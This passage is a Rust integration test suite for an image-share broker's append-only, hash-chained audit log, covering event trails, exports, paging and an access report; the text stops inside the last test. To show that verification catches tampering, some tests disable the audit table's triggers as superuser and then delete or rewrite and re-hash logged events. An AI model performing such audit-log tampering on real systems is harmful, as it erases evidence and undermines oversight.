//! The audit log: the exact events of each flow, the database refusing to rewrite it, the
//! verification catching whoever rewrites it anyway, exports, and the access report.

use std::process::Command;

use chrono::SubsecRound;
use glance_share_broker::db::{self, audit::Event, audit::NewEvent};
use glance_share_broker::domain::audit::DigestScheme;
use glance_share_broker::domain::{Action, Initiator, Role};
use glance_share_broker::startup::Application;
use glance_share_broker::worker::Worker;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use sqlx::{Acquire, PgConnection};
use uuid::Uuid;

use crate::fake_glance::Fault;
use crate::faults::{approve_one, setup, until_state};
use crate::helpers::{IMAGE, PROJ_B, TestApp, problem, request_body, serve_args, spawn_app};
use crate::openstack::{Rig, broker_cloud, drain, env, until_share_state, worker_config};

const BIN: &str = env!("CARGO_BIN_EXE_glance-share-broker");

/// The events in the chain before a test acts: `spawn_app` creates four keys, each audited.
const SETUP: i64 = 4;

/// `(action, outcome, initiator)` of every event about a request, oldest first.
async fn trail(app: &TestApp, request_id: &str) -> Vec<(String, String, String)> {
    db::audit::for_request(&app.pool, request_id.parse().unwrap())
        .await
        .unwrap()
        .into_iter()
        .map(|e| (e.action, e.outcome, e.initiator["name"].as_str().unwrap().to_owned()))
        .collect()
}

fn expect(events: &[(&str, &str, &str)]) -> Vec<(String, String, String)> {
    events
        .iter()
        .map(|(a, o, i)| (a.to_string(), o.to_string(), i.to_string()))
        .collect()
}

async fn json_of(response: reqwest::Response) -> Value {
    assert_eq!(response.status(), StatusCode::OK);
    response.json().await.unwrap()
}

async fn verify(app: &TestApp) -> Value {
    json_of(app.get(&app.auditor, "/v1/audit-events/verify").send().await.unwrap()).await
}

async fn assert_chain_holds(app: &TestApp) {
    let report = verify(app).await;
    assert_eq!(report["ok"], true, "{report}");
}

/// A key for proj-b, the consumer project.
async fn consumer_key(app: &TestApp, project: &str) -> String {
    db::api_keys::create(&app.pool, "proj-b-portal", Role::Requester, &[project.to_owned()])
        .await
        .unwrap()
        .1
}

async fn post_ok(app: &TestApp, key: &str, path: &str, body: Value) {
    let response = app.post(key, path, &body).send().await.unwrap();
    assert!(response.status().is_success(), "{path}: {:?}", response.text().await);
}

fn id(value: &Value, pointer: &str) -> String {
    value.pointer(pointer).and_then(Value::as_str).unwrap().to_owned()
}

#[tokio::test]
async fn granting_accepting_and_revoking_yield_their_exact_events() {
    let (app, rig) = (spawn_app().await, Rig::from_env());
    let worker = Worker::new(app.pool.clone(), broker_cloud(), worker_config());
    let image = rig.private_image("audit-grant").await;
    let proj_b = env("PROJ_B_ID");
    let request = app
        .file_and_approve(
            json!({"image_id": image, "targets": [proj_b], "reason": "audit"}),
            Some(&worker),
        )
        .await;
    let (request_id, share) = (id(&request, "/id"), id(&request, "/shares/0/id"));
    until_share_state(&worker, &app.pool, &share, "pending_acceptance").await;
    let consumer = consumer_key(&app, &proj_b).await;
    post_ok(&app, &consumer, &format!("/v1/shares/{share}/accept"), json!({})).await;
    until_share_state(&worker, &app.pool, &share, "accepted").await;
    let revoke = json!({"force": true, "reason": "project closed"});
    post_ok(&app, &app.requester, &format!("/v1/shares/{share}/revoke"), revoke).await;
    until_share_state(&worker, &app.pool, &share, "revoked").await;

    assert_eq!(
        trail(&app, &request_id).await,
        expect(&[
            ("create", "success", "portal"),
            ("update/validate", "success", "worker"),
            ("update/approve", "success", "workflow"),
            ("update/grant", "pending", "worker"),
            ("update/protect", "success", "worker"),
            ("update/visibility", "success", "worker"),
            ("allow", "success", "worker"),
            ("accept", "pending", "proj-b-portal"),
            ("accept", "success", "worker"),
            ("revoke", "pending", "portal"),
            ("update/visibility", "success", "worker"),
            ("update/unprotect", "success", "worker"),
            ("revoke", "success", "worker"),
        ])
    );
    let events = db::audit::for_request(&app.pool, request_id.parse().unwrap())
        .await
        .unwrap();
    let allow = events.iter().find(|e| e.action == "allow").unwrap();
    assert_eq!(allow.target["image_id"], image.as_str());
    assert_eq!(allow.target["image_name"], "audit-grant");
    assert_eq!(allow.target["owner_project_id"], env("PROJ_A_ID").as_str());
    assert_eq!(allow.target["project_id"], proj_b.as_str());
    assert_eq!(allow.target["region"], "RegionOne");
    assert_eq!(allow.details["approved_by"], "workflow");
    assert_eq!(allow.details["requested_by"], "portal");
    assert_eq!(allow.observer, "test-worker");
    assert!(
        allow.correlation_id.as_deref().unwrap().starts_with("req-"),
        "the worker's X-OpenStack-Request-ID: {allow:?}"
    );
    let accept_asked = &events[7];
    assert_eq!(accept_asked.observer, "test-broker");
    assert!(accept_asked.correlation_id.is_some(), "the API call's X-Request-Id");
    let revoked = events.last().unwrap();
    assert_eq!(revoked.reason.as_deref(), Some("project closed"));
    assert_eq!(revoked.details["revoked_by"], "portal");
    assert_chain_holds(&app).await;
}

#[tokio::test]
async fn rejecting_through_the_broker_yields_its_exact_events() {
    let (app, rig) = (spawn_app().await, Rig::from_env());
    let worker = Worker::new(app.pool.clone(), broker_cloud(), worker_config());
    let image = rig.private_image("audit-reject").await;
    let proj_b = env("PROJ_B_ID");
    let request = app
        .file_and_approve(
            json!({"image_id": image, "targets": [proj_b], "reason": "audit"}),
            Some(&worker),
        )
        .await;
    let share = id(&request, "/shares/0/id");
    until_share_state(&worker, &app.pool, &share, "pending_acceptance").await;
    let consumer = consumer_key(&app, &proj_b).await;
    post_ok(&app, &consumer, &format!("/v1/shares/{share}/reject"), json!({})).await;
    // A rejection removes the member (a rejected member still gives access).
    until_share_state(&worker, &app.pool, &share, "revoked").await;

    assert_eq!(
        trail(&app, &id(&request, "/id")).await,
        expect(&[
            ("create", "success", "portal"),
            ("update/validate", "success", "worker"),
            ("update/approve", "success", "workflow"),
            ("update/grant", "pending", "worker"),
            ("update/protect", "success", "worker"),
            ("update/visibility", "success", "worker"),
            ("allow", "success", "worker"),
            ("reject", "pending", "proj-b-portal"),
            ("update/visibility", "success", "worker"),
            ("update/unprotect", "success", "worker"),
            ("reject", "success", "worker"),
            ("revoke", "success", "worker"),
        ])
    );
    assert_chain_holds(&app).await;
}

#[tokio::test]
async fn an_expiring_share_yields_a_revoke_by_expiry() {
    let (app, rig) = (spawn_app().await, Rig::from_env());
    let worker = Worker::new(app.pool.clone(), broker_cloud(), worker_config());
    let image = rig.private_image("audit-expiry").await;
    // Long enough for validation and the grant to finish first on a busy machine.
    let expires_at = (chrono::Utc::now() + chrono::Duration::seconds(6)).to_rfc3339();
    let body = json!({"image_id": image, "targets": [env("PROJ_B_ID")], "reason": "short",
                      "expires_at": expires_at, "auto_accept": true});
    let request = app.file_and_approve(body, Some(&worker)).await;
    let share = id(&request, "/shares/0/id");
    drain(&worker).await;
    let sweeper = worker.clone();
    crate::openstack::drive_until(
        &worker,
        &app.pool,
        "the share expires",
        async move |pool: &sqlx::PgPool| {
            sweeper.sweep_expired().await.unwrap();
            crate::helpers::share_state(pool, &share).await == "revoked"
        },
    )
    .await;

    assert_eq!(
        trail(&app, &id(&request, "/id")).await,
        expect(&[
            ("create", "success", "portal"),
            ("update/validate", "success", "worker"),
            ("update/approve", "success", "workflow"),
            ("update/grant", "pending", "worker"),
            ("update/protect", "success", "worker"),
            ("update/visibility", "success", "worker"),
            ("allow", "success", "worker"),
            ("accept", "success", "worker"),
            ("revoke", "pending", "expiry"),
            ("update/visibility", "success", "worker"),
            ("update/unprotect", "success", "worker"),
            ("revoke", "success", "worker"),
        ])
    );
    assert_chain_holds(&app).await;
}

#[tokio::test]
async fn denying_cancelling_and_letting_a_request_expire_yield_their_exact_events() {
    let app = spawn_app().await;
    let denied = app.file(&Uuid::new_v4().to_string(), &[PROJ_B]).await;
    let path = format!("/v1/share-requests/{}/deny", id(&denied, "/id"));
    post_ok(&app, &app.approver, &path, json!({"comment": "not needed"})).await;
    let cancelled = app.file(&Uuid::new_v4().to_string(), &[PROJ_B]).await;
    let path = format!("/v1/share-requests/{}/cancel", id(&cancelled, "/id"));
    post_ok(&app, &app.requester, &path, json!({})).await;
    let mut body = request_body(&Uuid::new_v4().to_string(), &[PROJ_B]);
    body["expires_at"] = json!((chrono::Utc::now() + chrono::Duration::milliseconds(800)).to_rfc3339());
    let response = app
        .post(&app.requester, "/v1/share-requests", &body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);
    let expiring: Value = response.json().await.unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(1000)).await;
    let worker = Worker::new(app.pool.clone(), broker_cloud(), worker_config());
    assert_eq!(worker.sweep_expired().await.unwrap(), 1);

    assert_eq!(
        trail(&app, &id(&denied, "/id")).await,
        expect(&[("create", "success", "portal"), ("update/deny", "success", "workflow")])
    );
    let events = db::audit::for_request(&app.pool, id(&denied, "/id").parse().unwrap())
        .await
        .unwrap();
    assert_eq!(events[1].reason.as_deref(), Some("not needed"));
    assert_eq!(
        trail(&app, &id(&cancelled, "/id")).await,
        expect(&[("create", "success", "portal"), ("update/cancel", "success", "portal")])
    );
    assert_eq!(
        trail(&app, &id(&expiring, "/id")).await,
        expect(&[("create", "success", "portal"), ("update/expire", "success", "expiry")])
    );
    assert_chain_holds(&app).await;
}

#[tokio::test]
async fn a_grant_glance_refuses_yields_a_failure_event() {
    let s = setup("shared").await;
    s.fake.inject(Method::POST, "add_member", [Fault::Status(403, None)]);
    let share = approve_one(&s).await;
    let view = until_state(&s, &share, "failed").await;

    let request_id = view["request_id"].as_str().unwrap();
    assert_eq!(
        trail(&s.app, request_id).await,
        expect(&[
            ("create", "success", "portal"),
            ("update/validate", "success", "worker"),
            ("update/approve", "success", "workflow"),
            ("update/grant", "pending", "worker"),
            ("update/protect", "success", "worker"),
            // Nothing left to guard: the value found is put back.
            ("update/unprotect", "success", "worker"),
            ("allow", "failure", "worker"),
        ])
    );
    let events = db::audit::for_request(&s.app.pool, request_id.parse().unwrap())
        .await
        .unwrap();
    assert!(events[6].reason.as_deref().unwrap().contains("403"), "{:?}", events[6]);
    assert_chain_holds(&s.app).await;
}

/// Runs `sql`, which must fail with a message containing `needle`.
pub(crate) async fn refused(conn: &mut PgConnection, sql: &str, needle: &str) {
    let error = sqlx::query(sql).execute(&mut *conn).await.unwrap_err().to_string();
    assert!(error.contains(needle), "{sql}: {error}");
}

#[tokio::test]
async fn the_audit_tables_refuse_update_delete_and_truncate() {
    let app = spawn_app().await;
    app.file(&Uuid::new_v4().to_string(), &[PROJ_B]).await;
    db::audit::checkpoint(&app.pool, "test").await.unwrap().unwrap();
    let mut conn = app.pool.acquire().await.unwrap();

    // Even the superuser the tests run as is refused by the triggers.
    for table in ["audit_events", "audit_checkpoints"] {
        refused(
            &mut conn,
            &format!("update {table} set id = gen_random_uuid()"),
            "append-only",
        )
        .await;
        refused(&mut conn, &format!("delete from {table}"), "append-only").await;
        refused(&mut conn, &format!("truncate {table}"), "append-only").await;
    }

    // The application's role may read and append, nothing else, and cannot switch the
    // triggers off.
    sqlx::query("set role gsb_app").execute(&mut *conn).await.unwrap();
    for table in ["audit_events", "audit_checkpoints"] {
        refused(
            &mut conn,
            &format!("update {table} set id = gen_random_uuid()"),
            "permission denied",
        )
        .await;
        refused(&mut conn, &format!("delete from {table}"), "permission denied").await;
        refused(&mut conn, &format!("truncate {table}"), "permission denied").await;
        refused(
            &mut conn,
            &format!("alter table {table} disable trigger user"),
            "must be owner",
        )
        .await;
        // The broker's own checkpoint task (first pass at start) may have taken an earlier
        // head too: only what this test wrote is counted.
        let count: i64 = sqlx::query_scalar(&format!(
            "select count(*) from {table} where {}",
            if table == "audit_checkpoints" {
                "taken_by <> 'test-broker'"
            } else {
                "true"
            }
        ))
        .fetch_one(&mut *conn)
        .await
        .unwrap();
        let written = if table == "audit_events" { SETUP + 1 } else { 1 };
        assert_eq!(count, written, "{table}");
    }
    sqlx::query("reset role").execute(&mut *conn).await.unwrap();
    let count: i64 = sqlx::query_scalar("select count(*) from audit_events")
        .fetch_one(&mut *conn)
        .await
        .unwrap();
    assert_eq!(count, SETUP + 1, "nothing was changed");
}

#[tokio::test]
async fn the_broker_works_as_the_restricted_role() {
    let app = spawn_app().await;
    let url = format!("{}?options=-c%20role%3Dgsb_app", app.database_url);
    let restricted = Application::build(&serve_args(&url), None)
        .await
        .expect("starts as gsb_app");
    let addr = restricted.local_addr();
    let current: String = sqlx::query_scalar("select current_user::text")
        .fetch_one(&restricted.pool)
        .await
        .unwrap();
    assert_eq!(current, "gsb_app");
    tokio::spawn(restricted.run_until(std::future::pending()));

    let base = format!("http://{addr}");
    let response = app
        .client
        .post(format!("{base}/v1/share-requests"))
        .bearer_auth(&app.requester)
        .header("idempotency-key", "restricted-1")
        .json(&request_body(&Uuid::new_v4().to_string(), &[PROJ_B]))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);
    let filed: Value = response.json().await.unwrap();
    let path = format!("{base}/v1/share-requests/{}/deny", id(&filed, "/id"));
    let response = app.client.post(path).bearer_auth(&app.approver).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let report: Value = json_of(
        app.client
            .get(format!("{base}/v1/audit-events/verify"))
            .bearer_auth(&app.auditor)
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["head"]["chain_pos"], SETUP + 2);
    assert_eq!(report["checkpoint_written"]["chain_pos"], SETUP + 2);
}

/// Lets `tamper` change the log as the superuser with the triggers switched off, as an
/// attacker with the database's keys would.
async fn with_triggers_off(app: &TestApp, tamper: impl AsyncFnOnce(&mut PgConnection)) {
    let mut conn = app.pool.acquire().await.unwrap();
    sqlx::query("alter table audit_events disable trigger user")
        .execute(&mut *conn)
        .await
        .unwrap();
    tamper(&mut conn).await;
    sqlx::query("alter table audit_events enable trigger user")
        .execute(&mut *conn)
        .await
        .unwrap();
}

/// Stores `event`'s reason and hashes over what the row holds.
async fn rewrite(conn: &mut PgConnection, event: &Event) {
    sqlx::query("update audit_events set prev_hash = $2, hash = $3, reason = $4 where seq = $1")
        .bind(event.seq)
        .bind(&event.prev_hash)
        .bind(&event.hash)
        .bind(&event.reason)
        .execute(conn)
        .await
        .unwrap();
}

/// The events from place `chain_pos` on, once every committed event is sealed.
async fn events_from(app: &TestApp, chain_pos: i64) -> Vec<Event> {
    assert!(db::audit::seal_all(&app.pool).await.unwrap());
    sqlx::query_as("select * from audit_events where chain_pos >= $1 order by chain_pos")
        .bind(chain_pos)
        .fetch_all(&app.pool)
        .await
        .unwrap()
}

/// Files `count` requests at once, each for a new image; every one is created.
async fn file_at_once(app: &TestApp, count: usize) {
    let filings = (0..count).map(|_| {
        app.post(
            &app.requester,
            "/v1/share-requests",
            &request_body(&Uuid::new_v4().to_string(), &[PROJ_B]),
        )
        .send()
    });
    for response in futures_util::future::join_all(filings).await {
        assert_eq!(response.unwrap().status(), StatusCode::CREATED);
    }
}

async fn file_three(app: &TestApp) {
    for _ in 0..3 {
        app.file(&Uuid::new_v4().to_string(), &[PROJ_B]).await;
    }
}

#[tokio::test]
async fn verify_names_the_link_a_superuser_edited_with_the_triggers_off() {
    let app = spawn_app().await;
    file_three(&app).await;
    let before = events_from(&app, SETUP + 2).await.remove(0);
    let edited = Event {
        reason: Some("nothing to see here".into()),
        ..before.clone()
    };
    with_triggers_off(&app, async |conn: &mut PgConnection| rewrite(conn, &edited).await).await;

    let report = verify(&app).await;
    assert_eq!(report["ok"], false);
    let broken = &report["first_broken_link"];
    assert_eq!(broken["chain_pos"], SETUP + 2);
    assert_eq!(broken["seq"], before.seq);
    assert_eq!(broken["id"], before.id.to_string());
    assert_eq!(broken["field"], "hash");
    assert_eq!(broken["stored"], hex::encode(before.hash.as_ref().unwrap()));
    assert_ne!(broken["expected"], broken["stored"]);
    assert_eq!(report["head"]["chain_pos"], SETUP + 1, "the last link that holds");
    assert_eq!(
        report["checkpoint_written"],
        Value::Null,
        "no checkpoint of a broken chain"
    );

    let out = Command::new(BIN)
        .args(["audit", "verify"])
        .env("DATABASE_URL", &app.database_url)
        .output()
        .unwrap();
    assert!(!out.status.success(), "a broken chain fails the command");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains(&format!(
            "BROKEN LINK at place {} (seq {}, event {})",
            SETUP + 2,
            before.seq,
            before.id
        )),
        "{stdout}"
    );
    assert!(stdout.contains(&hex::encode(before.hash.as_ref().unwrap())), "{stdout}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("tampered"));
}

#[tokio::test]
async fn the_command_line_verifies_an_intact_log_and_records_a_checkpoint() {
    let app = spawn_app().await;
    file_three(&app).await;
    let out = Command::new(BIN)
        .args(["audit", "verify"])
        .env("DATABASE_URL", &app.database_url)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}");
    let head = SETUP + 3;
    assert!(
        stdout.contains(&format!("the chain holds up to place {head}")),
        "{stdout}"
    );
    assert!(stdout.contains("0 events not sealed yet"), "{stdout}");
    assert!(
        stdout.contains(&format!("checkpoint recorded at place {head}")),
        "{stdout}"
    );
}

#[tokio::test]
async fn a_deleted_tail_and_rehashed_history_are_caught_by_checkpoints() {
    let app = spawn_app().await;
    file_three(&app).await;
    assert_eq!(verify(&app).await["checkpoint_written"]["chain_pos"], SETUP + 3);
    app.file(&Uuid::new_v4().to_string(), &[PROJ_B]).await;
    assert_eq!(
        db::audit::checkpoint(&app.pool, "test-broker")
            .await
            .unwrap()
            .unwrap()
            .chain_pos,
        SETUP + 4,
        "the periodic checkpoint"
    );
    assert_eq!(
        db::audit::checkpoint(&app.pool, "test-broker").await.unwrap(),
        None,
        "unchanged head"
    );

    // The tail goes: every link left still holds, but the checkpoint knows better.
    let tail = events_from(&app, SETUP + 4).await.remove(0);
    with_triggers_off(&app, async |conn: &mut PgConnection| {
        sqlx::query("delete from audit_events where chain_pos = $1")
            .bind(SETUP + 4)
            .execute(conn)
            .await
            .unwrap();
    })
    .await;
    let report = verify(&app).await;
    assert_eq!(report["ok"], false, "{report}");
    assert_eq!(report["first_broken_link"], Value::Null);
    assert_eq!(report["head"]["chain_pos"], SETUP + 3);
    let mismatch = &report["checkpoint_mismatch"];
    assert_eq!(mismatch["checkpoint"]["chain_pos"], SETUP + 4);
    assert_eq!(mismatch["checkpoint"]["hash"], hex::encode(tail.hash.as_ref().unwrap()));
    assert_eq!(mismatch["stored_hash"], Value::Null);
    assert!(mismatch["detail"].as_str().unwrap().contains("deleted"), "{mismatch}");

    // History rewritten and re-hashed from place 2 on: a valid chain, but not the one the
    // checkpoint at place 3 recorded.
    let mut events = events_from(&app, SETUP + 2).await;
    events[0].reason = Some("rewritten".into());
    events[0].hash = events[0].expected_hash();
    events[1].prev_hash = events[0].hash.clone();
    events[1].hash = events[1].expected_hash();
    with_triggers_off(&app, async |conn: &mut PgConnection| {
        for event in &events {
            rewrite(conn, event).await;
        }
    })
    .await;
    let report = verify(&app).await;
    assert_eq!(report["first_broken_link"], Value::Null, "the links hold: {report}");
    let mismatch = &report["checkpoint_mismatch"];
    assert_eq!(mismatch["checkpoint"]["chain_pos"], SETUP + 3, "{report}");
    assert_eq!(mismatch["stored_hash"], hex::encode(events[1].hash.as_ref().unwrap()));
    assert!(mismatch["detail"].as_str().unwrap().contains("rewritten"), "{mismatch}");
}

#[tokio::test]
async fn concurrent_writers_keep_one_valid_chain() {
    let app = spawn_app().await;
    file_at_once(&app, 20).await;
    let report = verify(&app).await;
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["events_checked"], SETUP + 20);
    assert_eq!(report["head"]["chain_pos"], SETUP + 20);
}

async fn export(app: &TestApp, query: &str, accept: &str) -> (String, String) {
    let response = app
        .get(&app.auditor, &format!("/v1/audit-events{query}"))
        .header("accept", accept)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let content_type = response.headers()["content-type"].to_str().unwrap().to_owned();
    (content_type, response.text().await.unwrap())
}

#[tokio::test]
async fn every_export_format_parses() {
    let app = spawn_app().await;
    let mut body = request_body(&Uuid::new_v4().to_string(), &[PROJ_B, "proj-c"]);
    let awkward = r#"quotes "like this", commas, and ünïcode"#;
    body["reason"] = json!(awkward);
    post_ok(&app, &app.requester, "/v1/share-requests", body).await;
    let second = app.file(&Uuid::new_v4().to_string(), &[PROJ_B]).await;
    let path = format!("/v1/share-requests/{}/deny", id(&second, "/id"));
    post_ok(&app, &app.approver, &path, json!({"comment": "no"})).await;

    let (content_type, ndjson) = export(&app, "?format=ndjson", "application/json").await;
    assert_eq!(content_type, "application/x-ndjson", "format= wins over Accept");
    let lines: Vec<Value> = ndjson.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let seqs: Vec<i64> = lines.iter().map(|l| l["seq"].as_i64().unwrap()).collect();
    assert_eq!(seqs, (1..=SETUP + 3).collect::<Vec<_>>());
    assert!(lines[..SETUP as usize].iter().all(|l| l["action"] == "create/key"));
    let lines = &lines[SETUP as usize..];
    assert_eq!(lines[0]["reason"], awkward);
    assert_eq!(lines[2]["action"], "update/deny");
    assert_eq!(lines[2]["hash"].as_str().unwrap().len(), 64);

    let (content_type, csv) = export(&app, "", "text/csv").await;
    assert_eq!(content_type, "text/csv");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[0], "seq");
    assert!(headers.iter().any(|h| h == "initiator_name"));
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), SETUP as usize + 3);
    let rows = &rows[SETUP as usize..];
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    assert_eq!(&rows[0][column("reason")], awkward);
    assert_eq!(&rows[2][column("initiator_name")], "workflow");
    let details: Value = serde_json::from_str(&rows[0][column("details")]).unwrap();
    assert_eq!(details["targets"], json!([PROJ_B, "proj-c"]));

    let (content_type, cadf) = export(&app, "", "application/cadf+json").await;
    assert_eq!(content_type, "application/cadf+json");
    let cadf: Vec<Value> = serde_json::from_str(&cadf).unwrap();
    assert_eq!(cadf.len(), SETUP as usize + 3);
    let cadf = &cadf[SETUP as usize..];
    for event in cadf {
        assert_eq!(event["typeURI"], "http://schemas.dmtf.org/cloud/audit/1.0/event");
        assert_eq!(event["eventType"], "activity");
        assert!(chrono::DateTime::parse_from_rfc3339(event["eventTime"].as_str().unwrap()).is_ok());
        for part in ["initiator", "target", "observer"] {
            assert!(event[part]["typeURI"].is_string(), "{part}: {event}");
        }
        assert_eq!(event["observer"]["name"], "test-broker");
        assert_eq!(event["outcome"], "success");
    }
    assert_eq!(cadf[2]["action"], "update/deny");
    assert_eq!(cadf[2]["initiator"]["name"], "workflow");
    assert_eq!(cadf[2]["reason"]["reasonCode"], "no");

    // Filters apply to exports too; an empty export is still well-formed.
    let (_, csv) = export(&app, "?format=csv&action=update/deny", "*/*").await;
    assert_eq!(csv.lines().count(), 2, "{csv}");
    let (_, cadf) = export(&app, "?format=cadf&actor=nobody", "*/*").await;
    assert_eq!(serde_json::from_str::<Value>(&cadf).unwrap(), json!([]));
}

async fn page(app: &TestApp, query: &str) -> Value {
    json_of(
        app.get(&app.auditor, &format!("/v1/audit-events{query}"))
            .send()
            .await
            .unwrap(),
    )
    .await
}

/// The cursor past the events `spawn_app` leaves (the first [`SETUP`] in the chain).
async fn after_setup(app: &TestApp) -> String {
    let setup = page(app, &format!("?limit={SETUP}")).await;
    assert!(
        setup["items"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["action"] == "create/key")
    );
    setup["next_cursor"].as_str().unwrap().to_owned()
}

fn seqs(page: &Value) -> Vec<i64> {
    page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["seq"].as_i64().unwrap())
        .collect()
}

#[tokio::test]
async fn audit_events_filter_and_page_in_chain_order_for_auditors_only() {
    let app = spawn_app().await;
    let image = Uuid::new_v4().to_string();
    let response = app
        .post(&app.requester, "/v1/share-requests", &request_body(&image, &[PROJ_B]))
        .header("x-request-id", "corr-42")
        .send()
        .await
        .unwrap();
    let first: Value = response.json().await.unwrap();
    let path = format!("/v1/share-requests/{}/deny", id(&first, "/id"));
    post_ok(&app, &app.approver, &path, json!({})).await;
    for _ in 0..3 {
        app.file(&Uuid::new_v4().to_string(), &["proj-c"]).await;
    }

    let setup = after_setup(&app).await;
    let one = page(&app, &format!("?limit=2&cursor={setup}")).await;
    assert_eq!(seqs(&one), [SETUP + 1, SETUP + 2]);
    assert_eq!(one["items"][0]["correlation_id"], "corr-42");
    assert_eq!(one["items"][0]["initiator"]["name"], "portal");
    // An event appended between pages lands at the end: nothing skipped or repeated.
    app.file(&Uuid::new_v4().to_string(), &["proj-c"]).await;
    let cursor = one["next_cursor"].as_str().unwrap();
    let two = page(&app, &format!("?limit=2&cursor={cursor}")).await;
    assert_eq!(seqs(&two), [SETUP + 3, SETUP + 4]);
    let three = page(
        &app,
        &format!("?limit=2&cursor={}", two["next_cursor"].as_str().unwrap()),
    )
    .await;
    assert_eq!(seqs(&three), [SETUP + 5, SETUP + 6]);
    assert_eq!(three["next_cursor"], Value::Null);

    let (filed, denied) = (SETUP + 1, SETUP + 2);
    assert_eq!(seqs(&page(&app, &format!("?image_id={image}")).await), [filed, denied]);
    assert_eq!(seqs(&page(&app, &format!("?project_id={PROJ_B}")).await), [filed]);
    assert_eq!(seqs(&page(&app, "?actor=workflow").await), [denied]);
    assert_eq!(seqs(&page(&app, "?action=update/deny&outcome=success").await), [denied]);
    assert_eq!(seqs(&page(&app, "?outcome=failure").await), Vec::<i64>::new());
    let request_id = id(&first, "/id");
    assert_eq!(
        seqs(&page(&app, &format!("?request_id={request_id}")).await),
        [filed, denied]
    );
    let after = one["items"][1]["occurred_at"].as_str().unwrap().replace('+', "%2B");
    assert_eq!(
        seqs(&page(&app, &format!("?after={after}&limit=1&cursor={setup}")).await),
        [denied]
    );
    assert_eq!(
        seqs(&page(&app, &format!("?before={after}&cursor={setup}")).await),
        [filed]
    );

    for key in [&app.requester, &app.approver] {
        for path in ["/v1/audit-events", "/v1/audit-events/verify"] {
            problem(app.get(key, path).send().await.unwrap(), StatusCode::FORBIDDEN).await;
        }
    }
    let bad = app
        .get(&app.auditor, "/v1/audit-events?format=xml")
        .send()
        .await
        .unwrap();
    assert_eq!(
        crate::helpers::fields(&problem(bad, StatusCode::UNPROCESSABLE_ENTITY).await),
        ["format"]
    );
    let bad = app
        .get(&app.auditor, "/v1/audit-events?cursor=zzz")
        .send()
        .await
        .unwrap();
    problem(bad, StatusCode::UNPROCESSABLE_ENTITY).await;
    let bad = app
        .get(&app.auditor, "/v1/audit-events?actor=a%00b")
        .send()
        .await
        .unwrap();
    assert_eq!(
        crate::helpers::fields(&problem(bad, StatusCode::UNPROCESSABLE_ENTITY).await),
        ["actor"],
        "Postgres text cannot hold NUL: a 422, not a 500"
    );
}

async fn access(app: &TestApp, image: &str, at: Option<chrono::DateTime<chrono::Utc>>) -> Vec<Value> {
    let query = at.map_or(String::new(), |at| {
        format!("?at={}", at.to_rfc3339().replace('+', "%2B"))
    });
    let report = json_of(
        app.get(&app.auditor, &format!("/v1/images/{image}/access{query}"))
            .send()
            .await
            .unwrap(),
    )
    .await;
    report["projects"].as_array().unwrap().clone()
}

async fn pause() -> chrono::DateTime<chrono::Utc> {
    tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    let now = chrono::Utc::now();
    tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    now
}

#[tokio::test]
async fn the_access_report_is_right_across_grant_revoke_and_regrant() {
    let s = setup("shared").await;
    let app = &s.app;
    let before_all = pause().await;
    let first = approve_one(&s).await;
    until_state(&s, &first, "pending_acceptance").await;
    let granted = pause().await;
    post_ok(
        app,
        &app.requester,
        &format!("/v1/shares/{first}/revoke"),
        json!({"force": true, "reason": "moved"}),
    )
    .await;
    until_state(&s, &first, "revoked").await;
    let revoked = pause().await;
    let second = approve_one(&s).await;
    until_state(&s, &second, "pending_acceptance").await;
    let regranted = pause().await;
    let consumer = consumer_key(app, &s.proj_b).await;
    post_ok(app, &consumer, &format!("/v1/shares/{second}/accept"), json!({})).await;
    until_state(&s, &second, "accepted").await;

    assert_eq!(access(app, &s.image, Some(before_all)).await, Vec::<Value>::new());
    let then = access(app, &s.image, Some(granted)).await;
    assert_eq!(then.len(), 1, "{then:?}");
    assert_eq!(then[0]["project_id"], s.proj_b.as_str());
    assert_eq!(then[0]["share_id"], first.as_str());
    assert_eq!(then[0]["approved_by"], "workflow");
    assert_eq!(then[0]["requested_by"], "portal");
    assert_eq!(then[0]["member_status"], "pending");
    let since = chrono::DateTime::parse_from_rfc3339(then[0]["since"].as_str().unwrap()).unwrap();
    assert!(before_all < since && since < granted);
    assert_eq!(access(app, &s.image, Some(revoked)).await, Vec::<Value>::new());
    let again = access(app, &s.image, Some(regranted)).await;
    assert_eq!(again.len(), 1);
    assert_eq!(again[0]["share_id"], second.as_str());
    assert_eq!(again[0]["member_status"], "pending");
    let since = chrono::DateTime::parse_from_rfc3339(again[0]["since"].as_str().unwrap()).unwrap();
    assert!(revoked < since && since < regranted);
    let now = access(app, &s.image, None).await;
    assert_eq!(now.len(), 1);
    assert_eq!(now[0]["member_status"], "accepted");

    let history = json_of(
        app.get(&app.auditor, &format!("/v1/projects/{}/access-history", s.proj_b))
            .send()
            .await
            .unwrap(),
    )
    .await;
    let changes: Vec<(&str, &str)> = history["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["change"].as_str().unwrap(), c["by"].as_str().unwrap()))
        .collect();
    assert_eq!(
        changes,
        [
            ("granted", "workflow"),
            ("revoked", "portal"),
            ("granted", "workflow"),
            ("accepted", "worker")
        ]
    );
    let revoke = &history["items"][1];
    assert_eq!(revoke["reason"], "moved");
    assert_eq!(revoke["image_id"], s.image.as_str());
